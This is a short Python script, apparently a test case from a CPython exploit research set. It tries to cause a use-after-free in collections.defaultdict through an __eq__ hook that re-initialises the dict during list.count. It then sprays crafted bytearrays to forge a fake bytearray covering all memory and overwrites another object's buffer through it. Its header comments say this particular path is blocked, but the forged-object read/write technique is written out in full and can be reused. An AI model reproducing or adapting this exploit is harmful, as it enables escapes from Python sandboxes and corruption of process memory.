# family: wall (memory: defaultdict.__init__ run again from its own factory frees the factory, a bound list.count)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X115 (the fourteenth round's ok_03) of our own, by the other way to
# replace the factory: defaultdict.__init__ called again. __missing__ calls the
# factory borrowed. A bound lst.count takes an argument, so the factory is
# functools.partial(lst.count, 0), held by dd alone, whose call runs list_count with
# the bound method borrowed from the partial: x.__eq__ re-initialises dd, which frees
# the partial, the bound method and the list. The wall: defaultdict.__init__ keeps the
# factory it replaces (keep_init).
import collections
import functools
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __eq__(self, other):
        keep.append(self)              # self: the fake bytearray over all memory
        return False
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
h1 = bytes(FAKEOBJ)                    # the fake bytearray: data at id(h1) + 32
ITEMS = (W(0) + W(id(h1) + 32))[:15]   # bytearray(15 bytes) -> a 16-byte buffer: the freed ob_item
def refill():
    k1 = bytearray(ITEMS); k2 = bytearray(ITEMS); k3 = bytearray(ITEMS); k4 = bytearray(ITEMS)
    keep.extend((k1, k2, k3, k4))
class X:
    def __eq__(self, other):
        dd.__init__(None)                         # drops the bound list.count, then its list (ob_item freed)
        refill()
        return False
x, y = X(), X()
lst = [x, y]
dd = collections.defaultdict(functools.partial(lst.count, 0))
del lst
try:
    print("dd[1] ->", dd[1])           # defdict_missing -> partial -> list_count(lst, 0)
except Exception as e:
    print("missing:", type(e).__name__, e)
found = [k for k in keep if type(k) is BA]
if found:
    mem = found[0]
    print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
    target = bytearray(b"AAAAAAAA")    # another object's memory, written through the fake
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
